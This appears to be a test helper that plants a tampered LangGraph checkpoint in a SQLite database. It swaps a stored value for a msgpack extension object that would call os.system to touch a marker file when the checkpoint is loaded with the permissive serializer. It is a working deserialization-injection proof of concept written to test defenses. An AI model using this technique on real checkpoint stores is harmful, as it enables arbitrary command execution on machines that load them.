"""A planted checkpoint: one whose blob would call a function if loaded permissively."""

from __future__ import annotations

import sqlite3
from pathlib import Path

import ormsgpack
from langgraph.checkpoint.serde.jsonplus import EXT_CONSTRUCTOR_SINGLE_ARG, JsonPlusSerializer


def plant(db: Path, marker: Path) -> None:
    """Rewrite the latest checkpoint so that loading it with LangGraph's permissive
    serializer would call ``os.system`` and create ``marker``."""
    connection = sqlite3.connect(db)
    rowid, kind, blob = connection.execute(
        "SELECT rowid, type, checkpoint FROM checkpoints ORDER BY rowid DESC LIMIT 1"
    ).fetchone()
    serde = JsonPlusSerializer()
    checkpoint = serde.loads_typed((kind, blob))
    checkpoint["channel_values"]["answer"] = "PLANTED!"
    kind, blob = serde.dumps_typed(checkpoint)
    call = ormsgpack.packb(("os", "system", f"touch {marker}"))
    evil = ormsgpack.packb(ormsgpack.Ext(EXT_CONSTRUCTOR_SINGLE_ARG, call))
    assert ormsgpack.packb("PLANTED!") in blob
    blob = blob.replace(ormsgpack.packb("PLANTED!"), evil)
    connection.execute("UPDATE checkpoints SET checkpoint = ? WHERE rowid = ?", [blob, rowid])
    connection.commit()
    connection.close()
